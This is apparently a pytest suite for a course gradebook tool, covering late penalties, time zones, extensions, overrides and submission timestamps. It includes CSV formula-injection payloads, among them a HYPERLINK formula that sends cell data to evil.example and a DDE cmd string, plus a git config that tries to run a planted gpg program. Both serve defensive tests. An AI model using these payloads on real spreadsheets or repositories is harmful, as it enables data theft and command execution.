"""The gradebook's policy arithmetic, its configuration and the staff's files, one rule at
a time (the end-to-end export is in test_gradebook_export.py)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
from zoneinfo import ZoneInfo

import pytest

from grader import kit
from grader.gradebook import book, gradebook, lms, settings, students, times
from grader.gradebook.policy import (
    GradebookError,
    LatePenalty,
    Policy,
    assess,
    final_score,
    parse_time,
)
from grader.results import model, spreadsheet
from grader.results.formats import render

NY = ZoneInfo("America/New_York")
DUE = dt.datetime(2026, 3, 6, 23, 59, tzinfo=NY)  # a Friday; the clocks go forward on Sunday
DAILY = LatePenalty(per="day", penalty_percent=10, cap_percent=30, grace_minutes=15)
SECOND = dt.timedelta(seconds=1)


def final(submitted, *, late=DAILY, raw=80, hard=None, due=DUE):
    lateness = assess(submitted, due, max_score=100, late=late, hard_deadline=hard)
    return final_score(raw, lateness), lateness.rule


def test_exactly_on_the_deadline_is_on_time():
    """Is a submission stamped exactly at the due time on time, with no penalty?"""
    assert final(DUE) == (80, "on_time")


def test_one_second_late_without_grace_costs_a_whole_day():
    """Does one second past the deadline count as one started day?"""
    no_grace = LatePenalty(per="day", penalty_percent=10)
    assert final(DUE + SECOND, late=no_grace) == (70, "late")


def test_within_grace_is_not_penalised():
    """Is a submission 15 minutes late (the grace period, inclusive) free of penalty?"""
    assert final(DUE + dt.timedelta(minutes=15)) == (80, "grace")


def test_past_grace_lateness_counts_from_the_deadline():
    """Past the grace period, is lateness counted from the deadline (not from its end)?"""
    just_past = DUE + dt.timedelta(minutes=15) + SECOND
    assert final(just_past) == (70, "late")
    assert final(DUE + dt.timedelta(days=1, seconds=1)) == (60, "late")


def test_per_hour_counts_started_hours():
    """Per hour, is 2 h 0 min 1 s three started hours?"""
    hourly = LatePenalty(per="hour", penalty_percent=5)
    assert final(DUE + dt.timedelta(hours=2, seconds=1), late=hourly) == (65, "late")


def test_the_cap_limits_the_penalty():
    """Five days late at 10 % a day with a 30 % cap: are 30 points taken, not 50?"""
    assert final(DUE + dt.timedelta(days=4, hours=1)) == (50, "late_capped")


def test_penalty_never_makes_a_score_negative():
    """Is a small raw score brought to 0, never below?"""
    assert final(DUE + dt.timedelta(days=2), raw=5) == (0, "late")


def test_after_the_hard_deadline_no_credit():
    """Is a submission one second after the hard deadline worth 0, and one at it not?"""
    hard = DUE + dt.timedelta(days=7)
    assert final(hard + SECOND, hard=hard) == (0, "hard_deadline")
    assert final(hard, hard=hard) == (50, "late_capped")


def test_lateness_is_real_time_across_a_clock_change():
    """Due Saturday 23:59 EST, handed in Monday 00:30 EDT: 24 h 31 min on the wall clock but
    23 h 31 min of real time, so one started day late, not two?"""
    due = dt.datetime(2026, 3, 7, 23, 59, tzinfo=NY)
    submitted = dt.datetime(2026, 3, 9, 0, 30, tzinfo=NY)
    lateness = assess(submitted, due, max_score=100, late=DAILY)
    assert lateness.late_by == dt.timedelta(hours=23, minutes=31)
    assert (lateness.periods, lateness.penalty) == (1, 10)


def test_late_without_a_penalty_policy_keeps_the_score():
    """With a due date but no late table, is lateness reported and the score kept?"""
    assert final(DUE + dt.timedelta(days=3), late=None) == (80, "late_no_penalty")


def write(path, text):
    path.write_text(text)
    return path


def test_extension_in_days_moves_the_deadline_across_a_clock_change(tmp_path):
    """Does a 3-day extension over the spring-forward night keep 23:59 local time (23:59 EDT,
    23 real hours less than 3 x 24), so 00:30 after it is late and 23:30 before it is not?"""
    policy = Policy(timezone="America/New_York", due=DUE, late=DAILY)
    path = write(tmp_path / "extensions.csv", "student,days,reason\ncarol,3,medical\n")
    (extension,) = students.read_extensions(path, policy, {"carol"}).values()
    assert extension.due == dt.datetime(2026, 3, 9, 23, 59, tzinfo=NY)
    assert extension.due.utcoffset() == dt.timedelta(hours=-4)
    assert extension.due.astimezone(dt.UTC) - DUE.astimezone(dt.UTC) == dt.timedelta(hours=71)
    after = dt.datetime.fromisoformat("2026-03-10T00:30:00-04:00")
    assert assess(after, extension.due, max_score=100, late=DAILY).rule == "late"
    before = dt.datetime.fromisoformat("2026-03-09T23:30:00-04:00")
    assert assess(before, extension.due, max_score=100, late=DAILY).rule == "on_time"


def test_extension_moves_the_hard_deadline_as_far(tmp_path):
    """Does a 2-day extension move the hard deadline by 2 days too?"""
    hard = dt.datetime(2026, 3, 13, 23, 59, tzinfo=NY)
    policy = Policy(timezone="America/New_York", due=DUE, hard_deadline=hard)
    path = write(tmp_path / "ext.toml", '[[extension]]\nstudent = "bob"\ndays = 2\n')
    (extension,) = students.read_extensions(path, policy, {"bob"}).values()
    assert extension.hard_deadline == dt.datetime(2026, 3, 15, 23, 59, tzinfo=NY)


def test_a_local_time_the_clocks_skip_is_an_error():
    """Is 02:30 on the spring-forward night refused rather than guessed?"""
    with pytest.raises(GradebookError, match="does not exist in America/New_York"):
        parse_time("2026-03-08T02:30:00", "here", NY)
    with pytest.raises(GradebookError, match="happens twice"):
        parse_time("2026-11-01 01:30 America/New_York", "here")


def course(tmp_path, text, name="grader.toml"):
    return settings.load(write(tmp_path / name, text))


def test_policy_is_read_from_grader_toml(tmp_path):
    """Are the due date (local, in the course's zone), the hard deadline and the late table
    read as written?"""
    policy = course(
        tmp_path,
        '[gradebook]\ntimezone = "America/New_York"\ndue = 2026-03-06T23:59:00\n'
        "hard_deadline = 2026-03-13T23:59:00-04:00\n"
        '[gradebook.late]\nper = "hour"\npenalty_percent = 2\ncap_percent = 50\n',
    )
    assert policy.due == DUE
    assert policy.hard_deadline == dt.datetime(2026, 3, 13, 23, 59, tzinfo=NY)
    assert policy.late == LatePenalty(per="hour", penalty_percent=2, cap_percent=50)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "[gradebook]\nassignment = 'HW'\ndue = 2026-03-06T23:59:00\n",
            r"grader.toml:3: gradebook.due: 2026-03-06T23:59:00 has no time zone",
        ),
        ("[gradebook]\ndue = 2026-03-06\n", r"grader.toml:2: gradebook.due: .* without a time"),
        (
            "[gradebook]\ntimezone = 'Mars/Olympus'\n",
            r"grader.toml:2: gradebook.timezone: unknown time zone",
        ),
        (
            "[gradebook]\ndue = 2026-03-06T23:59:00Z\n[gradebook.late]\nper = 'week'\n",
            r"grader.toml:4: gradebook.late.per: expected day or hour",
        ),
        (
            "[gradebook]\ndue = 2026-03-06T23:59:00Z\n\n[gradebook.late]\npenalty = 10\n",
            r"grader.toml:5: gradebook.late.penalty: unknown key",
        ),
        (
            "[gradebook]\nlate.penalty_percent = 10\n",
            r"grader.toml:2: gradebook.late: a late penalty needs a due date",
        ),
    ],
)
def test_bad_policy_names_file_line_and_key(tmp_path, text, message):
    """Does each bad policy value name the file, the line and the key?"""
    with pytest.raises(GradebookError, match=message):
        course(tmp_path, text)


def test_policy_in_pyproject_names_the_tool_grader_key(tmp_path):
    """In a pyproject, is the key named as tool.grader.gradebook.due, with its line?"""
    text = '[project]\nname = "course"\n\n[tool.grader.gradebook]\ndue = "2026-03-06 23:59"\n'
    with pytest.raises(GradebookError, match=r"pyproject.toml:5: tool.grader.gradebook.due"):
        course(tmp_path, text, "pyproject.toml")


def test_extension_for_unknown_student_names_the_line(tmp_path):
    """Is an extension for a student in neither roster nor results an error at its line?"""
    policy = Policy(due=DUE)
    path = write(tmp_path / "ext.csv", "student,days\nalice,1\n\nzoe,2\n")
    with pytest.raises(GradebookError, match=r"ext.csv:4: unknown student 'zoe'"):
        students.read_extensions(path, policy, {"alice"})


def test_extension_in_toml_names_the_line_of_its_table(tmp_path):
    """In TOML, does the error point at the [[extension]] table's line?"""
    text = '[[extension]]\nstudent = "alice"\ndays = 1\n\n[[extension]]\nstudent = "zoe"\n'
    path = write(tmp_path / "ext.toml", text)
    with pytest.raises(GradebookError, match=r"ext.toml:5: unknown student 'zoe'"):
        students.read_extensions(path, Policy(due=DUE), {"alice"})


def test_override_above_the_maximum_names_the_line(tmp_path):
    """Is an override above the exercise's maximum an error at its line?"""
    path = write(
        tmp_path / "overrides.csv",
        "student,exercise,score,reason,by\nalice,ex1,18,regrade,ta\nbob,ex1,21,regrade,ta\n",
    )
    with pytest.raises(GradebookError, match=r"overrides.csv:3: score 21 is above the maximum, 20"):
        students.read_overrides(path, {"alice", "bob"}, {"ex1": 20}, 20)


def test_override_without_author_or_reason_is_refused(tmp_path):
    """Must every override say why and who decided?"""
    path = write(tmp_path / "o.csv", "student,score,reason,by\nalice,10,,ta\n")
    with pytest.raises(GradebookError, match=r"o.csv:2: an override needs 'reason'"):
        students.read_overrides(path, {"alice"}, {"ex1": 20}, 20)


def test_roster_listing_a_student_twice_is_an_error(tmp_path):
    """Is a duplicated id in the roster an error naming its second line?"""
    path = write(tmp_path / "roster.csv", "Student,SIS Login ID\nA,alice\nB,alice\n")
    with pytest.raises(GradebookError, match=r"roster.csv:3: SIS Login ID 'alice' .* twice"):
        students.read_roster(path)


def test_timestamps_csv_without_a_zone_names_the_line(tmp_path):
    """Is a TA's time without a time zone an error at its line?"""
    path = write(
        tmp_path / "timestamps.csv",
        "submission,submitted_at\nalice,2026-03-06T10:00:00Z\nbob,2026-03-06 10:00\n",
    )
    with pytest.raises(GradebookError, match=r"timestamps.csv:3: submitted_at: .* no time zone"):
        times.read_times("csv", path, ["alice", "bob"])


def test_gradescope_time_is_created_at(tmp_path):
    """Is Gradescope's submission time its metadata's created_at?"""
    (tmp_path / "alice").mkdir()
    meta = {"created_at": "2026-03-06T20:58:10.123456-08:00", "users": [{"sid": "alice"}]}
    (tmp_path / "alice" / "submission_metadata.json").write_text(json.dumps(meta))
    found = times.read_times("gradescope", tmp_path, ["alice"])
    assert found["alice"].at == dt.datetime.fromisoformat("2026-03-07T04:58:10.123456Z")


def test_github_time_is_the_last_commit(tmp_path):
    """Is a Classroom repository's time its last commit's committer date (not a file's)?"""
    repo = tmp_path / "alice"
    repo.mkdir()
    (repo / "ex1_gradients.py").write_text("x = 1\n")
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="a",
        GIT_AUTHOR_EMAIL="a@example.org",
        GIT_COMMITTER_NAME="a",
        GIT_COMMITTER_EMAIL="a@example.org",
        GIT_AUTHOR_DATE="2026-03-01T10:00:00+01:00",
        GIT_COMMITTER_DATE="2026-03-07T00:10:00-05:00",
    )
    for command in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "ex1"]):
        subprocess.run(["git", "-C", str(repo), *command], env=env, check=True)
    found = times.read_times("github", tmp_path, ["alice"])
    assert found["alice"].at == dt.datetime(2026, 3, 7, 0, 10, tzinfo=NY)


def test_a_clone_cannot_make_reading_its_time_run_a_program(tmp_path):
    """A clone whose own configuration shows signatures with a gpg.program of its choosing,
    and whose last commit is signed: is its time read without that program running?"""
    repo, marker = tmp_path / "mallory", tmp_path / "ran"
    git = ["git", "-C", str(repo), "-c", "user.name=m", "-c", "user.email=m@example.org"]
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "x"], check=True)
    tree = subprocess.run([*git, "rev-parse", "HEAD^{tree}"], capture_output=True, text=True)
    signed = (
        f"tree {tree.stdout.strip()}\nauthor m <m@example.org> 1772860200 -0500\n"
        "committer m <m@example.org> 1772860200 -0500\ngpgsig -----BEGIN PGP SIGNATURE-----\n"
        " \n AAAA\n -----END PGP SIGNATURE-----\n\nex1\n"
    )
    commit = subprocess.run(
        [*git, "hash-object", "-t", "commit", "-w", "--stdin"],
        input=signed, capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    program = tmp_path / "gpg"
    program.write_text(f"#!/bin/sh\necho ran > {marker}\nexit 1\n")
    program.chmod(0o755)
    for command in (
        ["update-ref", "HEAD", commit],
        ["config", "log.showSignature", "true"],
        ["config", "gpg.program", str(program)],
    ):
        subprocess.run([*git, *command], check=True)
    found = times.read_times("github", tmp_path, ["mallory"])
    assert found["mallory"].at == dt.datetime(2026, 3, 7, 0, 10, tzinfo=NY)
    assert not marker.exists()


def test_nbgrader_time_is_the_exchange_timestamp(tmp_path):
    """Is nbgrader's time the timestamp.txt its exchange wrote (format %Y-%m-%d %H:%M:%S.%f %Z)?"""
    folder = tmp_path / "submitted" / "alice" / "ps1"
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text("2026-03-07 04:59:30.000001 UTC")
    found = times.read_times("nbgrader", tmp_path / "submitted", ["alice"])
    assert found["alice"].at == dt.datetime(2026, 3, 7, 4, 59, 30, 1, tzinfo=dt.UTC)


def test_nbgrader_zone_abbreviation_is_read_in_the_course_zone(tmp_path):
    """With nbgrader's timezone set, %Z writes EDT: is it read as the course's zone, and is
    an abbreviation that is not the course zone's an error naming the file?"""
    folder = tmp_path / "alice"
    folder.mkdir()
    (folder / "timestamp.txt").write_text("2026-03-10 00:30:00.000000 EDT")
    found = times.read_times("nbgrader", tmp_path, ["alice"], zone=NY)
    assert found["alice"].at == dt.datetime(2026, 3, 10, 4, 30, tzinfo=dt.UTC)
    with pytest.raises(GradebookError, match=r"alice/timestamp.txt:1: unknown time zone 'EDT'"):
        times.read_times("nbgrader", tmp_path, ["alice"], zone=ZoneInfo("Europe/Berlin"))


def test_extension_to_a_date_without_a_zone_needs_the_course_zone(tmp_path):
    """Where the course names no timezone, is an extension's date without an offset refused
    (not read as UTC)?"""
    policy = Policy(due=DUE)
    path = write(tmp_path / "ext.csv", "student,due\nalice,2026-03-09T23:59:00\n")
    with pytest.raises(GradebookError, match=r"ext.csv:2: due: .* has no time zone"):
        students.read_extensions(path, policy, {"alice"})


def test_mtime_only_when_asked(tmp_path):
    """Are file modification times used under --times mtime (and only named there)?"""
    (tmp_path / "alice").mkdir()
    path = tmp_path / "alice" / "ex1_gradients.py"
    path.write_text("x = 1\n")
    os.utime(path, (1772859540, 1772859540))
    found = times.read_times("mtime", tmp_path, ["alice"])
    assert found["alice"].at == DUE
    assert "modification time" in found["alice"].source


def stored(name: str, ex1: float, ex2: float) -> model.SubmissionResult:
    tests = [
        model.GradedTest("test_a", "ex1", ex1, 20, "passed" if ex1 == 20 else "failed"),
        model.GradedTest("test_b", "ex2", ex2, 20, "passed" if ex2 == 20 else "failed"),
    ]
    return model.SubmissionResult.build(
        name, tests, {"ex1": 20, "ex2": 20}, device="cpu", isolation="bwrap",
        grader_version="0", duration_s=1,
    )  # fmt: skip


def test_overrides_replace_raw_scores_before_the_penalty(tmp_path):
    """Does an exercise override replace that exercise's score, the late penalty then apply,
    and an override give a roster student with no submission a score (no time, no penalty)?"""
    roster = students.read_roster(write(tmp_path / "r.csv", "id\nalice\nbob\ncarol\n"))
    overrides = students.read_overrides(
        write(
            tmp_path / "o.csv",
            "student,exercise,score,reason,by\nalice,ex2,15,regrade,ta\nbob,,30,oral exam,prof\n"
            "carol,ex1,12.5,paper copy,ta\n",
        ),
        {"alice", "bob", "carol"}, {"ex1": 20, "ex2": 20}, 40,
    )  # fmt: skip
    policy = Policy(due=DUE, late=DAILY)
    late = times.Submitted(DUE + dt.timedelta(hours=2), "here")
    result = book.build(
        [stored("alice", 20, 5)], roster, policy, times={"alice": late}, extensions={},
        overrides=overrides, maxima={"ex1": 20, "ex2": 20}, total=40,
    )  # fmt: skip
    alice, bob, carol = result.rows
    assert (alice.raw_score, alice.scored, alice.penalty, alice.final) == (25, 35, 4, 31)
    assert "ex2 set to 15 by ta: regrade" in alice.explanation
    assert (bob.scored, bob.final, bob.rule) == (30, 30, "no_time")
    assert (carol.scored, carol.final, carol.rule) == (12.5, 12.5, "no_time")
    assert result.missing == ["bob", "carol"]


def test_overrides_in_toml_name_the_line_of_their_table(tmp_path):
    """In TOML, is an override above the maximum reported at its [[override]] line?"""
    text = (
        '[[override]]\nstudent = "alice"\nscore = 30\nreason = "oral"\nby = "prof"\n\n'
        '[[override]]\nstudent = "alice"\nexercise = "ex1"\nscore = 25\nreason = "r"\nby = "ta"\n'
    )
    path = write(tmp_path / "overrides.toml", text)
    with pytest.raises(
        GradebookError, match=r"overrides.toml:7: score 25 is above the maximum, 20"
    ):
        students.read_overrides(path, {"alice"}, {"ex1": 20, "ex2": 20}, 40)


def test_canvas_needs_a_canvas_id_for_every_student(tmp_path):
    """Is a roster without ID, SIS User ID or SIS Login ID refused for Canvas (which could
    not match the rows) rather than written?"""
    roster = students.read_roster(write(tmp_path / "r.csv", "id,name\nalice,Alice\n"))
    result = book.build(
        [stored("alice", 20, 20)], roster, Policy(), times={}, extensions={}, overrides={},
        maxima={"ex1": 20, "ex2": 20}, total=40,
    )  # fmt: skip
    with pytest.raises(GradebookError, match="no ID, SIS User ID, SIS Login ID for alice"):
        lms.render("canvas", result)
    assert lms.render("csv", result).splitlines()[1].startswith("alice,alice,yes,40,")


HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A2,"grades")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=2",
    "\r=1",
    "  =1+1",
    '=1+1,"quoted",\n=2',
    "=cmd|' /C calc'!A0",
    "\uff1dSUM(A1)",
    'Bob\r=HYPERLINK("https://evil.example/")',
]
"""Names a spreadsheet would run as formulas (quotes, a comma and a line break included)."""
FORMULA = re.compile(r"[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def formulas(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would take as a formula."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row if FORMULA.match(c)]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_formula_is_written_as_text(name):
    """Is a text that a spreadsheet would run written with a leading ' and otherwise whole
    (a carriage return as a line break, which the CSV writer quotes)?"""
    assert spreadsheet.cell(name).lstrip("'") == name.replace("\r", "\n")
    assert formulas(spreadsheet.csv_text([[name]])) == []


@pytest.mark.parametrize(
    ("value", "written"),
    [(-1.5, -1.5), (20, 20), (0, 0), (None, ""), ("Adams, Alice", "Adams, Alice"),
     (lms.POINTS_POSSIBLE, lms.POINTS_POSSIBLE), (float("-inf"), "'-inf"), ("a=1", "a=1")],
)  # fmt: skip
def test_numbers_stay_numbers_and_plain_text_stays(value, written):
    """Does a number (a negative one too) stay a number, and plain text stay as it is?"""
    assert spreadsheet.cell(value) == written
    assert type(spreadsheet.cell(value)) is type(written)


def test_no_csv_the_kit_writes_holds_a_formula(tmp_path):
    """With a roster and submissions named as formulas (and a formula as the assignment),
    does no cell of grader gradebook's canvas, moodle and csv files, nor of grader run's
    --format csv, read as a formula, every name still there after its ', and every score
    cell a number?"""
    roster = tmp_path / "roster.csv"
    columns = [*lms.CANVAS_COLUMNS, "Email address"]
    with roster.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(columns)
        for number, name in enumerate(HOSTILE_NAMES):
            writer.writerow([name, 1000 + number, name, name, name, name])
    stored_results = tmp_path / "results"
    stored_results.mkdir()
    scored = [stored(name, 20 - number, 7.5) for number, name in enumerate(HOSTILE_NAMES)]
    for number, result in enumerate(scored):
        (stored_results / f"{number}.json").write_text(json.dumps(result.to_dict()))
    config = write(tmp_path / "grader.toml", '[gradebook]\nassignment = "=1+1"\n')
    written = {"run --format csv": render("csv", scored)}
    for fmt in lms.FORMATS:
        paths = gradebook(stored_results, fmt=fmt, roster=roster, config=config,
                          dest=tmp_path / fmt, stream=io.StringIO())  # fmt: skip
        written[fmt] = paths[fmt].read_text()
    numbers = {
        "canvas": ["'=1+1"],
        "moodle": ["'=1+1"],
        "csv": ["raw_score", "score_after_override", "final_score", "max_score"],
        "run --format csv": ["ex1", "ex2", "total", "max_score", "not_graded"],
    }
    for what, text in written.items():
        assert formulas(text) == [], what
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) >= len(HOSTILE_NAMES) and set(numbers[what]) <= set(rows[0]), what
        scores = [row[column] for row in rows for column in numbers[what] if row[column]]
        assert scores and all(isinstance(float(score), float) for score in scores), what
    names = [r["student"] for r in csv.DictReader(io.StringIO(written["csv"]))]
    assert {n.removeprefix("'") for n in names} >= {
        n.strip().replace("\r", "\n") for n in HOSTILE_NAMES
    }


def test_every_csv_writer_is_the_spreadsheet_ones():
    """Does every CSV the package writes go through grader.results.spreadsheet (no other writer)?"""
    package = kit.PACKAGE_DIR
    writers = [
        p.relative_to(package).as_posix()
        for p in package.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())
    ]
    assert writers == ["results/spreadsheet.py"]
